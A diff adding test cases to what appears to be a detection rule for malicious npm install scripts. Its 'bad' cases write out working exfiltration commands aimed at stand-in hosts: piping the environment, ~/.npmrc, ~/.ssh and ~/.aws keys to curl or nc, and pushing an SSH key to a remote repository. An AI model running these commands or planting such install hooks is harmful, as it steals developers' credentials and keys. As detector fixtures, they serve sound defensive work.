@@ -3,6 +3,39 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'the environment, by a command of the install',
+      manifest: { scripts: { postinstall: 'env | base64 | curl -s -X POST -d @- https://a.example' } },
+      code: '',
+    },
+    {
+      name: 'a credential file, by a command of the install',
+      manifest: { scripts: { preinstall: 'curl -s -d "$(cat ~/.npmrc)" https://a.example || true' } },
+      code: '',
+    },
+    {
+      name: 'keys in an archive, straight into a socket',
+      manifest: { scripts: { install: 'tar czf - ~/.ssh ~/.aws 2>/dev/null | nc 203.0.113.9 4444 || true' } },
+      code: '',
+    },
+    {
+      name: 'by a shell script, over several lines',
+      manifest: { scripts: { postinstall: './scripts/post.sh' } },
+      files: {
+        'index.js': '',
+        'scripts/post.sh':
+          '#!/bin/sh\nH=https://a.example\nif [ -f ~/.npmrc ]; then\n  cp ~/.npmrc /tmp/x\nfi\nD=$(base64 /tmp/x)\ncurl -s -d "$D" $H\n',
+      },
+    },
+    {
+      name: 'a key, pushed to a repository',
+      manifest: {
+        scripts: {
+          postinstall: 'cp ~/.ssh/id_rsa /tmp/d/ && cd /tmp/d && git add -A && git push -q https://a.example/r.git',
+        },
+      },
+      code: '',
+    },
+    {
       name: 'the environment, in a command of the install',
       manifest: {
         scripts: {
@@ -91,6 +124,26 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'commands of an install that download, and look at settings',
+      manifest: {
+        scripts: {
+          preinstall: 'test -f ~/.npmrc && cp .env.example .env; env | grep npm_config',
+          install: 'curl -L -H "Authorization: Bearer $TOKEN" https://a.example/x-$(uname -m).tar.gz | tar xz',
+          postinstall: 'env FOO=1 node x.js && cat package.json | curl -d @- https://a.example',
+        },
+      },
+      files: { 'index.js': '', 'x.js': '' },
+    },
+    {
+      name: 'a shell script that says what it found',
+      manifest: { scripts: { postinstall: 'sh post.sh' } },
+      files: {
+        'index.js': '',
+        'post.sh':
+          '#!/bin/sh\nset -e\nenv | sort > build.log\nif grep -q registry ~/.npmrc; then echo "own registry"; fi\ncurl -fsSL -o tides.tgz https://a.example/tides.tgz\n',
+      },
+    },
     {
       name: 'one setting, in a command of the install',
       manifest: {
